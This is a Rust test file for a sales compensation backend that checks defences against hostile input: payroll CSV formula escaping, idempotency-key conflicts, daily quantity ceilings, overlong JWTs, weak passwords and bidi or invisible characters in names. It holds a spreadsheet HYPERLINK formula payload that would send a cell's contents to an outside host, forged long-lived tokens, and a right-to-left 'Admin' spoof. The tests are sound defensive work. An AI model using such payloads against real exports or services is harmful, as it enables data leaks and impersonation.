//! Hostile input that passes the type checks: formulas in names that reach the payroll CSV,
//! reused idempotency keys, inflated self-logged quantities, long-lived tokens, common
//! passwords and invisible or direction-changing characters in names.

use base64::Engine as _;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use scorebord_tests::{Org, SECRET, TestApp, backend_tests, error_code};
use serde_json::{Value, json};

use crate::compensation::{APPROVE, plan_for_rep, run, stages, today, won};

backend_tests!(
    payroll_csv_escapes_formulas_in_names,
    an_idempotency_key_reused_for_another_request_is_a_conflict,
    a_batch_reusing_a_key_for_another_request_writes_nothing,
    self_logged_quantities_have_ceilings_per_activity_and_day,
    activity_types_carry_their_own_ceilings,
    tokens_living_longer_than_the_maximum_are_refused,
    common_and_personal_passwords_are_refused,
    names_refuse_bidi_and_invisible_characters,
);

const CREATE_TYPE: &str = "mutation($i: CreateActivityTypeInput!) { createActivityType(input: $i) { activityType { id selfMaxQuantityPerActivity selfMaxQuantityPerDay } userErrors { field code message } } }";
const UPDATE_TYPE: &str = "mutation($i: UpdateActivityTypeInput!) { updateActivityType(input: $i) { activityType { id selfMaxQuantityPerActivity selfMaxQuantityPerDay } userErrors { field code message } } }";
const LOG: &str = "mutation($i: LogActivityInput!) { logActivity(input: $i) { replayed activity { id points } userErrors { field code message } } }";
const LOG_MANY: &str = "mutation($i: LogActivitiesInput!) { logActivities(input: $i) { replayedCount activities { id } userErrors { field code message } } }";
const SCORE: &str = "query($m: ID) { score(memberId: $m, period: {grain: WEEK}) { points activityCount } }";
const VIEWER: &str = "{ viewer { member { id } } }";

async fn count_type(app: &TestApp, org: &Org, name: &str, extra: Value) -> String {
    let mut input = json!({"name": name, "category": "ACTION", "unit": "COUNT", "points": 1});
    if let (Some(i), Some(e)) = (input.as_object_mut(), extra.as_object()) {
        i.extend(e.clone());
    }
    let d = app.ok(&org.admin_token, CREATE_TYPE, json!({ "i": input })).await;
    d["createActivityType"]["activityType"]["id"].as_str().unwrap_or_else(|| panic!("{d}")).to_owned()
}

fn codes(payload: &Value) -> Vec<String> {
    payload["userErrors"]
        .as_array()
        .map_or_else(Vec::new, |e| e.iter().map(|e| e["code"].as_str().unwrap_or_default().to_owned()).collect())
}

async fn points(app: &TestApp, org: &Org) -> f64 {
    app.ok(&org.rep_token, SCORE, json!({"m": org.rep})).await["score"]["points"].as_f64().unwrap()
}

const UPDATE_MEMBER: &str = "mutation($i: UpdateMemberInput!) { updateMember(input: $i) { member { name } userErrors { field code message } } }";

/// A rep renames themself to a spreadsheet formula; once their statement is approved the payroll
/// export must show it as text, while the total stays a plain number.
async fn payroll_csv_escapes_formulas_in_names(app: &TestApp) {
    let org = app.seed_org("csvf").await;
    stages(app, &org).await;
    plan_for_rep(app, &org).await;
    let formula = r#"=HYPERLINK("http://x/?"&I2,"open")"#;
    let r = app.ok(&org.rep_token, UPDATE_MEMBER, json!({"i": {"id": org.rep, "name": formula}})).await;
    assert_eq!(r["updateMember"]["member"]["name"], formula, "{r}");
    won(app, &org, &org.rep, "Big", "40000.00", json!([])).await;
    let statements = run(app, &org, today()).await;
    let id = statements["statements"][0]["id"].as_str().unwrap().to_owned();
    app.ok(&org.admin_token, APPROVE, json!({"id": id})).await;
    let url = format!("{}/exports/payouts.csv?period={}", app.base_url, today());
    let body = app.client.get(&url).bearer_auth(&org.admin_token).send().await.unwrap().text().await.unwrap();
    let rows: Vec<&str> = body.lines().collect();
    assert_eq!(rows.len(), 2, "{body}");
    // The name holds quotes, so the CSV writer quotes the cell and doubles them.
    let escaped = format!("\"'{}\"", formula.replace('"', "\"\""));
    assert!(rows[1].contains(&format!(",{escaped},")), "the name must start with ': {body}");
    assert!(!rows[1].contains(",=") && !rows[1].contains(",\"="), "{body}");
    let total = rows[1].split(',').find(|c| c.contains('.') && c.parse::<f64>().is_ok());
    assert!(total.is_some(), "the total stays a plain number: {body}");
}

/// `logActivity`: the same key with the same request replays; with anything changed it is a
/// CONFLICT user error and nothing is written or awarded.
async fn an_idempotency_key_reused_for_another_request_is_a_conflict(app: &TestApp) {
    let org = app.seed_org("idem").await;
    let call = count_type(app, &org, "Call", json!({})).await;
    let quote = count_type(app, &org, "Quote", json!({})).await;
    let at = (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339();
    let first =
        json!({"activityTypeId": call, "quantity": 2, "occurredAt": at, "note": "Acme", "idempotencyKey": "k-1"});
    let r = app.ok(&org.rep_token, LOG, json!({ "i": first })).await;
    let original = r["logActivity"]["activity"]["id"].clone();
    assert_eq!(r["logActivity"]["replayed"], false, "{r}");
    let again = app.ok(&org.rep_token, LOG, json!({ "i": first })).await;
    assert_eq!((&again["logActivity"]["replayed"], &again["logActivity"]["activity"]["id"]), (&json!(true), &original));
    let rows = app.count_rows("activities").await;
    let before = points(app, &org).await;
    let changes = [
        json!({"quantity": 200}),
        json!({"activityTypeId": quote}),
        json!({"note": "Globex"}),
        json!({"occurredAt": (chrono::Utc::now() - chrono::Duration::hours(2)).to_rfc3339()}),
    ];
    for change in changes {
        let mut retry = first.clone();
        retry.as_object_mut().unwrap().extend(change.as_object().unwrap().clone());
        let r = app.ok(&org.rep_token, LOG, json!({ "i": retry })).await;
        assert_eq!(codes(&r["logActivity"]), vec!["CONFLICT"], "{change}: {r}");
        assert_eq!(r["logActivity"]["userErrors"][0]["field"], json!(["input", "idempotencyKey"]));
        assert!(r["logActivity"]["activity"].is_null() && r["logActivity"]["replayed"] == false, "{r}");
    }
    assert_eq!(app.count_rows("activities").await, rows, "nothing written");
    assert_eq!(points(app, &org).await, before, "nothing awarded");
    // A manager reusing the rep's key for another activity of that rep is refused the same way.
    let mut other = first.clone();
    other["quantity"] = json!(3);
    other["memberId"] = json!(org.rep);
    let r = app.ok(&org.manager_token, LOG, json!({ "i": other })).await;
    assert_eq!(codes(&r["logActivity"]), vec!["CONFLICT"], "{r}");
}

/// `logActivities`: an item reusing a stored key for another request, or two items sharing a
/// key with different requests, refuse the whole batch with CONFLICT on the item.
async fn a_batch_reusing_a_key_for_another_request_writes_nothing(app: &TestApp) {
    let org = app.seed_org("idemb").await;
    let call = count_type(app, &org, "Call", json!({})).await;
    let first = json!({"activityTypeId": call, "quantity": 2, "idempotencyKey": "b-1"});
    app.ok(&org.rep_token, LOG, json!({ "i": first })).await;
    let rows = app.count_rows("activities").await;
    let same = app.ok(&org.rep_token, LOG_MANY, json!({"i": {"items": [first]}})).await;
    assert_eq!(same["logActivities"]["replayedCount"], 1, "{same}");
    let fresh = json!({"activityTypeId": call, "idempotencyKey": "b-2"});
    let changed = json!({"activityTypeId": call, "quantity": 9, "idempotencyKey": "b-1"});
    let r = app.ok(&org.rep_token, LOG_MANY, json!({"i": {"items": [fresh, changed]}})).await;
    assert_eq!(codes(&r["logActivities"]), vec!["CONFLICT"], "{r}");
    assert_eq!(r["logActivities"]["userErrors"][0]["field"], json!(["input", "items", "1", "idempotencyKey"]));
    let twins = [
        json!({"activityTypeId": call, "quantity": 1, "idempotencyKey": "b-3"}),
        json!({"activityTypeId": call, "quantity": 4, "idempotencyKey": "b-3"}),
    ];
    let r = app.ok(&org.rep_token, LOG_MANY, json!({"i": {"items": twins}})).await;
    assert_eq!(codes(&r["logActivities"]), vec!["CONFLICT"], "{r}");
    assert_eq!(app.count_rows("activities").await, rows, "nothing written");
}

/// A rep logging for themself: at most 100 units in one activity and 500 a day per type by
/// default, in logActivity and logActivities; a manager logging for the rep is not limited.
async fn self_logged_quantities_have_ceilings_per_activity_and_day(app: &TestApp) {
    let org = app.seed_org("ceil").await;
    let call = count_type(app, &org, "Call", json!({})).await;
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": call, "quantity": 10_000}})).await;
    assert_eq!(codes(&r["logActivity"]), vec!["LIMIT_EXCEEDED"], "{r}");
    assert_eq!(r["logActivity"]["userErrors"][0]["field"], json!(["input", "quantity"]));
    assert!(r["logActivity"]["userErrors"][0]["message"].as_str().unwrap().contains("100"), "{r}");
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": call, "quantity": 101}})).await;
    assert_eq!(codes(&r["logActivity"]), vec!["LIMIT_EXCEEDED"], "{r}");
    for _ in 0..4 {
        let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": call, "quantity": 100}})).await;
        assert_eq!(codes(&r["logActivity"]), Vec::<String>::new(), "{r}");
    }
    // 400 so far: a batch that would pass 500 is refused whole.
    let items: Vec<Value> = (0..3).map(|_| json!({"activityTypeId": call, "quantity": 50})).collect();
    let r = app.ok(&org.rep_token, LOG_MANY, json!({"i": {"items": items}})).await;
    assert_eq!(codes(&r["logActivities"]), vec!["LIMIT_EXCEEDED"], "{r}");
    assert_eq!(r["logActivities"]["userErrors"][0]["field"], json!(["input", "items", "2", "quantity"]));
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": call, "quantity": 100}})).await;
    assert_eq!(codes(&r["logActivity"]), Vec::<String>::new(), "exactly 500: {r}");
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": call, "quantity": 1}})).await;
    assert_eq!(codes(&r["logActivity"]), vec!["LIMIT_EXCEEDED"], "{r}");
    assert!(r["logActivity"]["userErrors"][0]["message"].as_str().unwrap().contains("0 left"), "{r}");
    assert_eq!(points(app, &org).await, 500.0);
    // A voided activity no longer counts: its 100 may be logged again, and no more.
    let logged = &hundred_unit_activity(app, &org, &call).await;
    let void = "mutation($i: VoidActivityInput!) { voidActivity(input: $i) { userErrors { code } } }";
    let v = app.ok(&org.rep_token, void, json!({"i": {"id": logged, "reason": "typo"}})).await;
    assert_eq!(codes(&v["voidActivity"]), Vec::<String>::new(), "{v}");
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": call, "quantity": 100}})).await;
    assert_eq!(codes(&r["logActivity"]), Vec::<String>::new(), "after the void: {r}");
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": call, "quantity": 1}})).await;
    assert_eq!(codes(&r["logActivity"]), vec!["LIMIT_EXCEEDED"], "{r}");
    assert_eq!(points(app, &org).await, 500.0);
    // Another type has its own day; a manager logging for the rep is accountable instead.
    let quote = count_type(app, &org, "Quote", json!({})).await;
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": quote, "quantity": 100}})).await;
    assert_eq!(codes(&r["logActivity"]), Vec::<String>::new(), "{r}");
    let r = app
        .ok(&org.manager_token, LOG, json!({"i": {"activityTypeId": call, "memberId": org.rep, "quantity": 1000}}))
        .await;
    assert_eq!(codes(&r["logActivity"]), Vec::<String>::new(), "{r}");
    assert_eq!(points(app, &org).await, 1600.0);
}

/// The ID of one of the rep's 100-unit activities of `activity_type`.
async fn hundred_unit_activity(app: &TestApp, org: &Org, activity_type: &str) -> String {
    let q = "query($m: ID!) { activities(filter: {memberId: $m}, first: 50) { edges { node { id quantity activityType { id } } } } }";
    let d = app.ok(&org.rep_token, q, json!({"m": org.rep})).await;
    let edges = d["activities"]["edges"].as_array().cloned().unwrap_or_default();
    edges
        .iter()
        .map(|e| &e["node"])
        .find(|n| n["quantity"] == 100 && n["activityType"]["id"] == activity_type)
        .and_then(|n| n["id"].as_str())
        .unwrap_or_else(|| panic!("a 100-unit activity in {d}"))
        .to_owned()
}

/// Admins set an activity type's ceilings; out-of-range values are refused, `null` restores
/// the default.
async fn activity_types_carry_their_own_ceilings(app: &TestApp) {
    let org = app.seed_org("ceilt").await;
    let d = app
        .ok(&org.admin_token, CREATE_TYPE, json!({"i": {"name": "Demo", "category": "ACTION", "unit": "COUNT", "points": 1, "selfMaxQuantityPerActivity": 0, "selfMaxQuantityPerDay": 1_000_001}}))
        .await;
    assert_eq!(codes(&d["createActivityType"]), vec!["OUT_OF_RANGE", "OUT_OF_RANGE"], "{d}");
    let demo =
        count_type(app, &org, "Demo", json!({"selfMaxQuantityPerActivity": 2, "selfMaxQuantityPerDay": 3})).await;
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": demo, "quantity": 3}})).await;
    assert_eq!(codes(&r["logActivity"]), vec!["LIMIT_EXCEEDED"], "{r}");
    app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": demo, "quantity": 2}})).await;
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": demo, "quantity": 2}})).await;
    assert_eq!(codes(&r["logActivity"]), vec!["LIMIT_EXCEEDED"], "2 + 2 > 3: {r}");
    let u = app.ok(&org.admin_token, UPDATE_TYPE, json!({"i": {"id": demo, "selfMaxQuantityPerDay": null}})).await;
    let t = &u["updateActivityType"]["activityType"];
    assert_eq!((t["selfMaxQuantityPerActivity"].as_i64(), t["selfMaxQuantityPerDay"].as_i64()), (Some(2), Some(500)));
    let r = app.ok(&org.rep_token, LOG, json!({"i": {"activityTypeId": demo, "quantity": 2}})).await;
    assert_eq!(codes(&r["logActivity"]), Vec::<String>::new(), "{r}");
    let u =
        app.ok(&org.admin_token, UPDATE_TYPE, json!({"i": {"id": demo, "selfMaxQuantityPerActivity": 10_001}})).await;
    assert_eq!(codes(&u["updateActivityType"]), vec!["OUT_OF_RANGE"], "{u}");
}

fn sign(claims: &Value) -> String {
    jsonwebtoken::encode(&Header::new(Algorithm::HS256), claims, &EncodingKey::from_secret(SECRET.as_bytes())).unwrap()
}

fn member_uuid(gid: &str) -> String {
    let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(gid).unwrap();
    String::from_utf8(raw).unwrap().split_once(':').unwrap().1.to_owned()
}

/// A correctly signed token valid for longer than MAX_TOKEN_LIFETIME_SECONDS (24 h by
/// default) is refused, with or without `iat`; the server issues none.
async fn tokens_living_longer_than_the_maximum_are_refused(app: &TestApp) {
    let org = app.seed_org("ttl").await;
    let now = chrono::Utc::now().timestamp();
    let (sub, org_id) = (member_uuid(&org.rep), org.id.0.to_string());
    let day = 86_400;
    let ok = sign(&json!({"sub": sub, "org": org_id, "iat": now, "exp": now + day}));
    assert!(app.gql(Some(&ok), VIEWER, json!({})).await.get("errors").is_none());
    for (what, claims) in [
        ("ten years", json!({"sub": sub, "org": org_id, "iat": now, "exp": now + 3650 * day})),
        ("a day and a minute", json!({"sub": sub, "org": org_id, "iat": now, "exp": now + day + 60})),
        ("no iat", json!({"sub": sub, "org": org_id, "exp": now + 2 * day})),
        ("issued in the future", json!({"sub": sub, "org": org_id, "iat": now + 5 * day, "exp": now + 6 * day})),
    ] {
        let r = app.gql(Some(&sign(&claims)), VIEWER, json!({})).await;
        assert_eq!(error_code(&r), "UNAUTHENTICATED", "{what}: {r}");
        assert!(r.to_string().contains("lifetime"), "{what}: {r}");
    }
    assert!(app.state.jwt.issue(uuid::Uuid::nil(), org.id.0, chrono::Duration::days(2)).is_err());
    let login = "mutation { login(input: {organizationSlug: \"ttl\", email: \"rep@ttl.test\", password: \"password123\"}) { accessToken accessTokenExpiresAt } }";
    let d = app.ok(&org.rep_token, login, json!({})).await;
    let expires = chrono::DateTime::parse_from_rfc3339(d["login"]["accessTokenExpiresAt"].as_str().unwrap()).unwrap();
    assert!(expires.timestamp() <= now + day + 5, "{d}");
}

/// Passwords set through the API: common ones (any case) and the member's own e-mail or name
/// are refused with a user error on the password field; nothing is stored.
async fn common_and_personal_passwords_are_refused(app: &TestApp) {
    let org = app.seed_org("pw").await;
    let create = "mutation($i: CreateMemberInput!) { createMember(input: $i) { member { id } userErrors { field code message } } }";
    let members = app.count_rows("members").await;
    for (password, why) in [
        ("password123", "common"),
        ("PassWord123", "common"),
        ("qwertyuiop", "common"),
        ("zoe.jansen@pw.test", "e-mail"),
        ("zoe.jansen", "e-mail"),
        ("Zoe Jansen", "name"),
    ] {
        let input =
            json!({"name": "Zoe Jansen", "email": "zoe.jansen@pw.test", "salesRole": "CLOSER", "password": password});
        let r = app.ok(&org.admin_token, create, json!({ "i": input })).await;
        let e = &r["createMember"]["userErrors"];
        assert_eq!(e[0]["field"], json!(["input", "password"]), "{password}: {r}");
        assert!(e[0]["message"].as_str().unwrap().contains(why), "{password}: {r}");
    }
    assert_eq!(app.count_rows("members").await, members, "nothing stored");
    let change =
        "mutation($i: ChangePasswordInput!) { changePassword(input: $i) { userErrors { field code message } } }";
    for new in ["iloveyou1", "REP@pw.test", "Password1"] {
        let r =
            app.ok(&org.rep_token, change, json!({"i": {"currentPassword": "password123", "newPassword": new}})).await;
        assert_eq!(r["changePassword"]["userErrors"][0]["field"], json!(["input", "newPassword"]), "{new}: {r}");
    }
    let r = app
        .ok(
            &org.rep_token,
            change,
            json!({"i": {"currentPassword": "password123", "newPassword": "tram-7-hoorn-kaas"}}),
        )
        .await;
    assert_eq!(r["changePassword"]["userErrors"], json!([]), "{r}");
}

/// Every kind of name refuses a right-to-left override and a zero-width space (and changes
/// nothing), and keeps accepting real names in any script.
async fn names_refuse_bidi_and_invisible_characters(app: &TestApp) {
    let org = app.seed_org("bidi").await;
    stages(app, &org).await;
    let now = chrono::Utc::now();
    // (mutation, payload field, input with NAME where the name goes)
    let kinds: [(&str, &str, &str, Value); 8] = [
        (
            "member",
            "updateMember",
            "mutation($i: UpdateMemberInput!) { updateMember(input: $i) { userErrors { field code message } } }",
            json!({"id": org.rep, "name": "NAME"}),
        ),
        (
            "new member",
            "createMember",
            "mutation($i: CreateMemberInput!) { createMember(input: $i) { userErrors { field code message } } }",
            json!({"name": "NAME", "email": "new@bidi.test", "salesRole": "CLOSER"}),
        ),
        (
            "team",
            "createTeam",
            "mutation($i: CreateTeamInput!) { createTeam(input: $i) { userErrors { field code message } } }",
            json!({"name": "NAME"}),
        ),
        (
            "organization",
            "updateOrganization",
            "mutation($i: UpdateOrganizationInput!) { updateOrganization(input: $i) { userErrors { field code message } } }",
            json!({"name": "NAME"}),
        ),
        (
            "activity type",
            "createActivityType",
            CREATE_TYPE,
            json!({"name": "NAME", "category": "ACTION", "unit": "COUNT", "points": 1}),
        ),
        (
            "deal",
            "createDeal",
            "mutation($i: DealInput!) { createDeal(input: $i) { userErrors { field code message } } }",
            json!({"name": "NAME", "amount": "10.00"}),
        ),
        (
            "campaign",
            "createCampaign",
            "mutation($i: CreateCampaignInput!) { createCampaign(input: $i) { userErrors { field code message } } }",
            json!({"name": "NAME", "startsAt": now.to_rfc3339(), "endsAt": (now + chrono::Duration::days(1)).to_rfc3339(), "multiplier": 2}),
        ),
        (
            "territory",
            "createTerritory",
            "mutation($i: CreateTerritoryInput!) { createTerritory(input: $i) { userErrors { field code message } } }",
            json!({"name": "NAME", "kind": "REGION"}),
        ),
    ];
    for (kind, field, mutation, input) in kinds {
        for (evil, code) in [
            ("Jan\u{202E}nimdA", "U+202E"),
            ("Ja\u{200B}n", "U+200B"),
            ("\u{2066}Jan", "U+2066"),
            ("Jan\u{FEFF}", "U+FEFF"),
        ] {
            let i: Value = serde_json::from_str(&input.to_string().replace("NAME", evil)).unwrap();
            let r = app.ok(&org.admin_token, mutation, json!({ "i": i })).await;
            let e = &r[field]["userErrors"][0];
            assert_eq!(
                (e["code"].as_str(), e["field"][1].as_str()),
                (Some("INVALID"), Some("name")),
                "{kind} {code}: {r}"
            );
            assert!(e["message"].as_str().unwrap().contains(code), "{kind}: {r}");
        }
    }
    let r = app
        .ok(
            &org.admin_token,
            "mutation($i: DealInput!) { createDeal(input: $i) { userErrors { field code } } }",
            json!({"i": {"name": "Deal", "company": "Acme\u{200D}"}}),
        )
        .await;
    assert_eq!(r["createDeal"]["userErrors"][0]["field"], json!(["input", "company"]), "{r}");
    let r = app
        .ok(
            &org.rep_token,
            "mutation($i: UpdateMemberInput!) { updateMember(input: $i) { member { name } userErrors { code } } }",
            json!({"i": {"id": org.rep, "name": "محمد Zoë 山田"}}),
        )
        .await;
    assert_eq!(r["updateMember"]["member"]["name"], "محمد Zoë 山田", "{r}");
}
